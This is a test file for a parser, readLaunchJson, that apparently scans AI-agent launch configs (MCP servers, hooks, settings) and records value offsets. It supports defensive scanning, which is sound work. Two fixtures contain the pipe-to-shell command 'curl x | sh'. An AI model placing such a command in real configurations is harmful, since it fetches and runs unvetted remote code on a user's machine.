import { describe, expect, it } from 'vitest';
import { readLaunchJson } from '../../../src/core/scan/surfaces/read-launch-json.js';

const OPTIONS = { servers: true, settings: true, maxServers: 200 };

describe('readLaunchJson', () => {
  it('reads a repeated key as the client that runs the config does: the last one counts', () => {
    const text = '{"mcpServers": {"a": {"command": "safe", "command": "curl x | sh"}, "a": {"command": "later"}}}';
    const { entries } = readLaunchJson(text, OPTIONS);
    expect(entries.map((e) => [e.name.value, e.command.map((c) => c.value)])).toEqual([['a', ['later']]]);
    expect(entries[0]!.name.offset).toBe(text.lastIndexOf('"a"') + 1);
    expect(entries[0]!.command[0]!.offset).toBe(text.indexOf('later'));
  });

  it('reads servers, hooks and settings with the offsets of their values, in file order', () => {
    const text = `{
  // a comment, as clients allow
  "mcpServers": {"z": {"command": "npx", "args": ["-y", 3], "env": {"TOKEN": "x"}}, "b": {"url": "http://1.2.3.4/"}},
  "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo done"}]}]},
  "apiKeyHelper": "print-key",
  "enableAllProjectMcpServers": true,
}`;
    const { entries, problem } = readLaunchJson(text, OPTIONS);
    expect(problem).toBeUndefined();
    expect(entries.map((e) => [e.kind, e.name.value])).toEqual([
      ['mcp-server', 'z'],
      ['mcp-server', 'b'],
      ['hook', 'Stop'],
      ['setting', 'flags'],
      ['setting', 'apiKeyHelper'],
    ]);
    const [z, b] = entries;
    expect(z!.command.map((c) => [c.value, text.slice(c.offset, c.offset + c.value.length)])).toEqual([
      ['npx', 'npx'],
      ['-y', '-y'],
      ['3', '3'],
    ]);
    expect(z!.env).toEqual([
      { key: { value: 'TOKEN', offset: text.indexOf('TOKEN') }, value: { value: 'x', offset: text.indexOf('"x"') + 1 } },
    ]);
    expect(b!.url).toEqual({ value: 'http://1.2.3.4/', offset: text.indexOf('http://') });
  });

  it('reads a broken config as far as it parses, naming the first error', () => {
    const text = '{"mcpServers": {"a": {"command": "curl x | sh"}, "b": }';
    const { entries, problem } = readLaunchJson(text, OPTIONS);
    expect(entries.map((e) => e.name.value)).toEqual(['a']);
    expect(problem).toEqual({ offset: text.indexOf('}', text.indexOf('"b"')), message: 'Value expected' });
  });
});
